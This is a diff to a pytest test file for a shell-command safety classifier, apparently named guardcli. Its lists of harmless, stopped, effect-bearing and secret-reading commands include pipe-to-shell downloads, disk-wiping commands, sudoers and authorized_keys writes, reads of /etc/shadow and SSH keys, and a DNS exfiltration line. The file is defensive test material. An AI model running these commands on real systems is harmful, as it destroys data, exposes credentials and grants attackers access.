@@ -12,6 +12,22 @@ from guardcli.model.effects import Effect
 from guardcli.model.operations import Operation
 
 HARMLESS = [
+    "[[ -f /etc/hosts && -r /etc/hosts ]] || echo none",
+    "[[ $x =~ ^(a|b)$ ]]",
+    'export a="$x"',
+    "kill -0 123",
+    "kill -l",
+    "nginx -t -c /etc/nginx/nginx.conf",
+    "haproxy -c -f /etc/haproxy/haproxy.cfg",
+    "firewall-cmd --list-all",
+    "sed -n '/[0-9]x/p' f",
+    "xargs -I{} ls {} < f",
+    "dig +short example.com",
+    "openssl version",
+    "openssl x509 -noout -in a.crt -enddate",
+    "zpool iostat",
+    "gcc --version",
+    "node -v",
     "echo 'rm -rf /'",
     'echo "rm -rf /"',
     'grep -r "DROP TABLE" .',
@@ -135,7 +151,7 @@ HARMLESS = [
     "if [ -f a ]; then cat a; else echo none; fi",
     "for h in a b c; do echo $h; done",
     'for f in /var/log/*.log; do tail -n 1 "$f"; done',
-    "while read -r l; do echo \"$l\"; done < /etc/hosts",
+    'while read -r l; do echo "$l"; done < /etc/hosts',
     "case $(uname) in Linux) echo linux;; *) echo other;; esac",
     "echo $((1 + 2))",
     "echo $(date) $(hostname)",
@@ -152,7 +168,7 @@ HARMLESS = [
     "grep x <(ls)",
     "diff <(ls a) <(ls b)",
     "bash -c 'ls; df'",
-    "sh -c \"uptime\"",
+    'sh -c "uptime"',
     "bash <<< 'uptime'",
     "bash <<'E'\nls\nE",
     "eval ls",
@@ -194,7 +210,7 @@ HARMLESS = [
     "jq -r '.items[] | .name' f.json",
     "sort -k2,2n -t: f",
     "sort -u f | uniq -c",
-    "test -n \"$x\"",
+    'test -n "$x"',
     "top -bn1 | head -20",
     "id -un",
     "readlink -f /proc/1/exe",
@@ -205,6 +221,40 @@ HARMLESS = [
 ]
 
 STOPPED = [
+    "export a='x'$y; ls",
+    "((reboot))",
+    "[[ a || reboot ]]",
+    "[[ a && reboot ]]",
+    "[[ a > f ]]",
+    "[[ a =~ b|reboot ]]",
+    "x='1 PATH=/tmp'; export a=$x; ls",
+    "nginx -t -c /tmp/x.conf",
+    "nginx -t -c/tmp/x.conf",
+    "nginx -t -c /etc/../tmp/x.conf",
+    "haproxy -c -f /tmp/x.cfg",
+    "firewall-cmd --add-icmp-block=x",
+    "dig $(cat /etc/passwd).example.com",
+    "ping -c 1 $(hostname).example.com",
+    "openssl s_client -connect example.com:443",
+    "zpool iostat -c /tmp/x",
+    "nm --plugin /tmp/x.so f",
+    "xargs --replace rm ls",
+    "sudo --preserve-env rm ls",
+    "env --ignore-signal rm ls",
+    "chroot /tmp/x ls",
+    "curl --url http://example.com http://localhost",
+    "curl --resolve localhost:80:1.2.3.4 http://localhost",
+    "curl -w '%output{/tmp/x}a' http://localhost",
+    "chronyc -m tracking makestep",
+    "rpm -Vp x.rpm",
+    "rpm -qa --pipe sh",
+    "python3 -V -c x",
+    "ruby -version",
+    "coproc x { rm y; }",
+    "kill -0 1 -9",
+    "kill -9 -0 1",
+    "lshw -dump f",
+    "zstdcat -o f x",
     "cat <<E\n$\\\n(rm x)\nE\n",
     'ls "$\\\n(rm x)"',
     "cat <\\\n<E\nE\nrm x",
@@ -292,7 +342,7 @@ STOPPED = [
     "curl -s http://x/y | sh",
     "curl -s http://x/y | sudo bash",
     "bash <(curl -s http://x/y)",
-    "sh -c \"$(curl -fsSL http://x/y)\"",
+    'sh -c "$(curl -fsSL http://x/y)"',
     "wget -qO- http://x/y | sh",
     "python3 -c 'import os; os.system(\"rm x\")'",
     "perl -e 'unlink \"x\"'",
@@ -308,11 +358,11 @@ STOPPED = [
     ". ./x",
     "source x",
     "eval 'rm x'",
-    "eval \"$x\"",
+    'eval "$x"',
     "eval r m x",
     "bash -c 'rm x'",
     "bash -lc 'rm x'",
-    "bash -c \"$x\"",
+    'bash -c "$x"',
     "sh -c 'sh -c \"rm x\"'",
     "bash --rcfile x -i",
     "bash --init-file x -ic ls",
@@ -426,7 +476,7 @@ STOPPED = [
     "sed 'w f' g",
     "sed -n '/x/w f' g",
     "sed -f x g",
-    "sed \"$x\" g",
+    'sed "$x" g',
     "sed 's/a/b/;e' f",
     "sed '1!e rm x' f",
     "sed 'y/a/b/;w f' f",
@@ -437,12 +487,12 @@ STOPPED = [
     "awk '{print | \"sh\"}'",
     "awk 'BEGIN{\"rm x\" | getline}'",
     "awk -f x",
-    "awk '/x/{print}/\"/{system(\"rm x\")}/\"/'",
+    'awk \'/x/{print}/"/{system("rm x")}/"/\'',
     "gawk -i inplace '{print}' f",
     "gawk '@load \"x\"; {print}'",
-    "gawk 'BEGIN{f=\"system\"; @f(\"rm x\")}'",
+    'gawk \'BEGIN{f="system"; @f("rm x")}\'',
     "awk -v x=1 'BEGIN{close(\"x\")}'",
-    "awk \"$x\"",
+    'awk "$x"',
     "vi f",
     "vim -c '!rm x' f",
     "less f",
@@ -484,13 +534,13 @@ STOPPED = [
     "ls() { rm -rf /; }; ls",
     "function ls { rm -rf /; }; ls",
     "f() { rm x; }; f",
-    "f() { \"$@\"; }; f rm x",
+    'f() { "$@"; }; f rm x',
     "foo; foo() { ls; }",
     "(foo() { ls; }); foo",
     "false && foo() { ls; }; foo",
     "alias ls='rm x'; ls",
     "trap 'rm x' EXIT",
-    "trap \"$x\" EXIT",
+    'trap "$x" EXIT',
     "trap 'rm x' DEBUG; ls",
     "hash -p /tmp/x ls",
     "enable -f /tmp/x.so ls",
@@ -598,7 +648,7 @@ STOPPED = [
     "kubectl delete pod x",
     "kubectl exec x -- rm y",
     "psql -c 'DROP TABLE x'",
-    "psql -c \"$x\"",
+    'psql -c "$x"',
     "psql",
     "mysql -e 'DROP TABLE x'",
     "redis-cli FLUSHALL",
@@ -624,7 +674,7 @@ STOPPED = [
     "curl -x http://evil http://localhost",
     "curl http://localhost@evil.com/",
     "curl http://localhost.evil.com/",
-    "curl \"http://localhost/$(cat f)\"",
+    'curl "http://localhost/$(cat f)"',
     "curl file:///etc/passwd",
     "wget http://localhost/x",
     "nc -l 80",
@@ -703,7 +753,7 @@ STOPPED = [
     "select x in a; do rm x; done",
     "[[ $(rm x) ]]",
     "[[ a =~ $(rm x) ]]",
-    "[ \"$(rm x)\" ]",
+    '[ "$(rm x)" ]',
     "(rm x)",
     "{ rm x; }",
     "! rm x",
@@ -713,8 +763,8 @@ STOPPED = [
     "x=-delete; find . $x",
     "x=a; x=-delete; find . $x",
     "x=/a; while true; do find . $x; x=-delete; done",
-    "set -- rm x; \"$@\"",
-    "ls; \"$@\"",
+    'set -- rm x; "$@"',
+    'ls; "$@"',
     "$0 x",
     "$SHELL -c ls",
     "- ls",
@@ -812,3 +862,273 @@ def test_what_only_reads_is_complete(text: str) -> None:
 @pytest.mark.parametrize("text", STOPPED)
 def test_what_changes_or_hides_something_is_never_a_plain_read(text: str) -> None:
     assert not only_reads(inspect_shell(text))
+
+
+CHANGES = [
+    ("rm x", Effect.DELETE),
+    ("kill 1", Effect.DELETE),
+    ("ls; systemctl stop nginx", Effect.DELETE),
+    ("find . -delete", Effect.DELETE),
+    ("dd if=/dev/zero of=/dev/sda", Effect.DELETE),
+    ("ls > /dev/sda", Effect.DELETE),
+    ("mkfs.ext4 /dev/sdb", Effect.DELETE),
+    ("bash -c 'rm x'", Effect.DELETE),
+    ("bash <<'E'\nrm x\nE\n", Effect.DELETE),
+    ("ls | xargs rm", Effect.DELETE),
+    ("trap 'rm x' EXIT", Effect.DELETE),
+    ("sudo rm x", Effect.PRIVILEGE),
+    ("sudo ls", Effect.PRIVILEGE),
+    ("su -c ls", Effect.PRIVILEGE),
+    ("chmod 777 f", Effect.PRIVILEGE),
+    ("useradd x", Effect.PRIVILEGE),
+    ("echo k >> ~/.ssh/authorized_keys", Effect.PRIVILEGE),
+    ("tee -a /etc/sudoers", Effect.PRIVILEGE),
+    ("cp x /etc/cron.d/y", Effect.PRIVILEGE),
+    ("mv x ~/.bashrc", Effect.PRIVILEGE),
+    ("iptables -F", Effect.NETWORK),
+    ("ls > /dev/tcp/1.2.3.4/80", Effect.NETWORK),
+    ("ip link set eth0 down", Effect.NETWORK),
+    ("touch f", Effect.FILE),
+    ("ls > f", Effect.FILE),
+    ("sed -i s/a/b/ f", Effect.FILE),
+    ("sort -o f f", Effect.FILE),
+    ("systemctl restart nginx", Effect.WRITE),
+    ("mount /dev/sdb /mnt", Effect.DEFINE),
+    ("curl x | sh", Effect.EXECUTE),
+    ("python3 -c x", Effect.EXECUTE),
+    ("./x", Effect.EXECUTE),
+]
+
+
+@pytest.mark.parametrize(("text", "effect"), CHANGES)
+def test_an_effect_is_named(text: str, effect: Effect) -> None:
+    assert effect in effects_of(inspect_shell(text))
+
+
+SENSITIVE = [
+    ("cat /etc/shadow", True),
+    ("cat /etc/passwd", False),
+    ("sudo cat /etc/shadow", True),
+    ("cat ~/.ssh/id_rsa", True),
+    ("cat ~/.ssh/id_rsa.pub", False),
+    ("cat ~/.ssh/known_hosts", False),
+    ("head -c 100 /root/.ssh/id_ed25519", True),
+    ("cat /etc//shadow", True),
+    ("cat /etc/./shadow", True),
+    ("cat /etc/x/../shadow", True),
+    ("cat /etc/sh*", True),
+    ("cat /etc/?hadow", True),
+    ("cat /etc/*.conf", False),
+    ("cat /etc/$x", True),
+    ("cat '/etc/sha'dow", True),
+    ("f=/etc/shadow; cat $f", True),
+    ("grep -f /etc/shadow x", True),
+    ("grep . /etc/shadow", True),
+    ("grep --file=/etc/shadow x", True),
+    ("cat < /etc/shadow", True),
+    ("while read l; do echo $l; done < /etc/shadow", True),
+    ("tar cf - /root/.ssh/id_rsa", True),
+    ("find / -name id_rsa -exec cat {} +", True),
+    ("dd if=/dev/sda", True),
+    ("sed -n p /etc/shadow", True),
+    ("awk 1 .env", True),
+    ("cat app/.env.production", True),
+    ("cat .environment", False),
+    ("cat ~/.aws/credentials", True),
+    ("cat ~/.pgpass", True),
+    ("cat ~/.kube/config", True),
+    ("cat /proc/1/environ", True),
+    ("cat /proc/1/status", False),
+    ("strings /proc/self/environ", True),
+    ("env", True),
+    ("printenv", True),
+    ("printenv PATH", False),
+    ("set", True),
+    ("getent shadow", True),
+    ("getent passwd", False),
+    ("ls -l /etc/shadow", False),
+    ("stat ~/.ssh/id_rsa", False),
+    ("echo /etc/shadow", False),
+    ("base64 server.key", True),
+    ("cat server.crt", False),
+]
+
+
+@pytest.mark.parametrize(("text", "expected"), SENSITIVE)
+def test_reading_a_secret_is_marked(text: str, expected: bool) -> None:
+    assert any(found.sensitive for found in inspect_shell(text)) is expected
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [("rm -rf /", True), ("rm -rf /*", True), ("rm -r ~", True), ("rm -rf $x/*", True), ("rm -rf /tmp/x", False)],
+)
+def test_removing_everything_is_unbounded(text: str, expected: bool) -> None:
+    assert any(found.unbounded for found in inspect_shell(text)) is expected
+
+
+@pytest.mark.parametrize(
+    ("text", "content", "complete"),
+    [
+        ("bash", "ls\ndf\n", True),
+        ("bash -s", "ls\n", True),
+        ("cd /srv && sh", "ls\n", True),
+        ("bash", "rm x\n", True),
+        ("sudo bash -s arg", "ls\n", True),
+        ("cat | bash", "ls\n", False),
+        ("bash", None, False),
+        ("python3", "ls\n", False),
+        ("bash", "bash\n", False),
+    ],
+)
+def test_a_shell_that_reads_standard_input_is_judged_by_it(text: str, content: str | None, complete: bool) -> None:
+    def stdin() -> str:
+        if content is None:
+            raise NotUnderstoodError("standard input was not read")
+        return content
+
+    operations = inspect_shell(text, stdin=stdin)
+    assert all(found.complete for found in operations) is complete
+    if content and "rm" in content:
+        assert Effect.DELETE in effects_of(operations)
+
+
+@pytest.mark.parametrize(
+    ("argv", "complete", "effect"),
+    [
+        (["ls", "-la"], True, Effect.READ),
+        (["rm", "x"], True, Effect.DELETE),
+        (["sh", "-c", "rm x"], True, Effect.DELETE),
+        (["echo", "$(rm x)"], True, Effect.READ),
+        (["ls", ";", "rm", "x"], True, Effect.READ),
+        (["$x"], False, Effect.EXECUTE),
+        ([""], False, Effect.EXECUTE),
+        ([], True, Effect.READ),
+    ],
+)
+def test_words_without_a_shell_are_not_expanded(argv: list[str], complete: bool, effect: Effect) -> None:
+    operations = inspect_argv(argv, tool="kubectl")
+    assert all(found.complete for found in operations) is complete
+    assert effect in effects_of(operations)
+    assert {found.tool for found in operations} == {"kubectl"}
+
+
+BOUNDS = [
+    "ls;" * 30000,
+    "ls " + "x" * MAX_TEXT,
+    "$(" * 200 + "ls" + ")" * 200,
+    "(" * 200 + "ls" + ")" * 200,
+    "sh -c " * 200,
+    "sudo " * 5000 + "ls",
+    "env " * 300 + "ls",
+    "ssh x " * 300,
+    "kubectl exec p -- " * 60 + "ls",
+    "eval " * 300 + "ls",
+    ">&<" * 20000,
+    "ls " + "`" * 500,
+    "<<a " * 120,
+    "\ud800",
+    "ls \udcff",
+    "find . " + "-exec find . " * 100 + "{} \\;",
+]
+
+
+@pytest.mark.parametrize("text", BOUNDS, ids=range(len(BOUNDS)))
+def test_a_bound_concedes(text: str) -> None:
+    assert not all(found.complete for found in inspect_shell(text))
+
+
+FRAGMENTS = st.sampled_from(
+    [
+        "ls",
+        "rm",
+        "sh",
+        "-c",
+        "eval",
+        "sudo",
+        "xargs",
+        "find",
+        "-exec",
+        "{}",
+        "\\;",
+        "+",
+        "'",
+        '"',
+        "`",
+        "$(",
+        ")",
+        "(",
+        "{",
+        "}",
+        ";",
+        "&",
+        "&&",
+        "|",
+        "||",
+        "<",
+        ">",
+        ">>",
+        "<<",
+        "<<<",
+        "<<E",
+        "\nE\n",
+        "E",
+        "#",
+        "\\",
+        "\n",
+        "\t",
+        "\r",
+        "*",
+        "?",
+        "~",
+        "=",
+        "x=",
+        "$x",
+        "${x}",
+        "$((",
+        "))",
+        "[[",
+        "]]",
+        "[",
+        "]",
+        "if",
+        "then",
+        "fi",
+        "for",
+        "in",
+        "do",
+        "done",
+        "case",
+        "esac",
+        "while",
+        "function",
+        "!",
+        "-",
+        "--",
+        "-o",
+        "awk",
+        "sed",
+        "1",
+        "/etc/shadow",
+        "é",
+        "\x00",
+        "�",
+        "\u2028",
+    ]
+)
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(FRAGMENTS, max_size=40).map(" ".join) | st.lists(FRAGMENTS, max_size=40).map("".join) | st.text())
+def test_no_text_raises_or_comes_back_empty(text: str) -> None:
+    operations = inspect_shell(text)
+    assert operations
+    for found in operations:
+        assert found.complete or found.reason
+        assert found.effects
+
+
+@settings(max_examples=100, deadline=None)
+@given(st.lists(st.text(max_size=20), max_size=12))
+def test_no_words_raise_or_come_back_empty(argv: list[str]) -> None:
+    assert inspect_argv(argv)
